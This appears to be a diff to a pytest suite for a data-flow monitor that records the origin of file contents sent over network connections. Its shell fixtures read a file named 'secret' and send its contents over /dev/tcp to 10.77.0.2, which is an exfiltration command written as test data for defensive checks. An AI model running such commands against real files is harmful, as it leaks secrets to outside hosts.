@@ -140,7 +140,8 @@ def test_answer_for_a_process_holds_for_its_connections(case, outcome):
 # A file's own answer does not let out what the same shell reads later; each has connections of its own, and one in common.
 TWO_FILES = """
 cp secret second; agent label second
-agent=$(agent serve allow /run/agent.log file)
+serve() {{ agent serve allow /run/agent.log {scope}; }}
+agent=$(serve)
 exec 5> /dev/tcp/10.77.0.2/9
 x=$(tr '\\n' ' ' < secret)
 echo "one $x" >&5
@@ -154,11 +155,52 @@ kill $agent
 """
 
 
-@pytest.mark.parametrize("case", [Case("file-scope", TWO_FILES, "none")], ids=str)
+# scope -> of which files the questions are: for each connection, or once.
+TWO_FILES_ASKED = {"file": ["secret", "second"], "flow-file": ["secret", "secret", "second", "second", "secret"]}
+
+
+@pytest.mark.parametrize("case", [Case(scope, TWO_FILES.format(scope=scope), "none") for scope in TWO_FILES_ASKED], ids=str)
 def test_answer_for_a_file_holds_for_it_alone(case, outcome):
-    origins = [word for line in outcome.questions for word in line.split() if word.startswith("origin=")]
-    assert origins == ["origin=/mnt/case/secret", "origin=/mnt/case/second"], outcome.describe()
+    origins = [word.rpartition("/")[2] for line in outcome.questions for word in line.split() if word.startswith("origin=")]
+    assert origins == TWO_FILES_ASKED[case.name], outcome.describe()
     assert all(word in outcome.received for word in (b"one", b"two", b"three", b"four", b"five")), outcome.describe()
+
+
+MOVED = """
+serve() { agent serve allow /run/agent.log file; }
+agent=$(serve)
+x=$(tr '\\n' ' ' < secret)
+echo "one $x" > /dev/tcp/10.77.0.2/9
+mkdir other; mv secret other/
+x=$(tr '\\n' ' ' < other/secret)
+echo "two $x" > /dev/tcp/10.77.0.2/9
+kill $agent
+"""
+
+
+@pytest.mark.parametrize("case", [Case("moved", MOVED, "none")], ids=str)
+def test_a_file_that_was_moved_is_another_one(case, outcome):
+    origins = [word for line in outcome.questions for word in line.split() if word.startswith("origin=")]
+    assert origins == ["origin=/mnt/case/secret", "origin=/mnt/case/other/secret"], outcome.describe()
+
+
+# What another program appended to a file of one's own is not one's own any more.
+MIXED = """
+cp secret second; agent label second
+x=$(tr '\\n' ' ' < secret)
+echo "$x" > mixed
+read -r y < mixed
+echo "one $y" > /dev/tcp/10.77.0.2/9
+cat second >> mixed
+{ read -r y; read -r y z; } < mixed
+echo "two $y" > /dev/tcp/10.77.0.2/9
+"""
+
+
+@pytest.mark.parametrize("case", [Case("mixed", MIXED, "allow")], ids=str)
+def test_a_file_of_mixed_origin_is_named_itself(case, outcome):
+    origins = [word.rpartition("/")[2] for line in outcome.questions for word in line.split() if word.startswith("origin=")]
+    assert origins == ["secret", "mixed"], outcome.describe()
 
 
 @pytest.mark.parametrize("case", [thrice("flushed", "allow", "process",
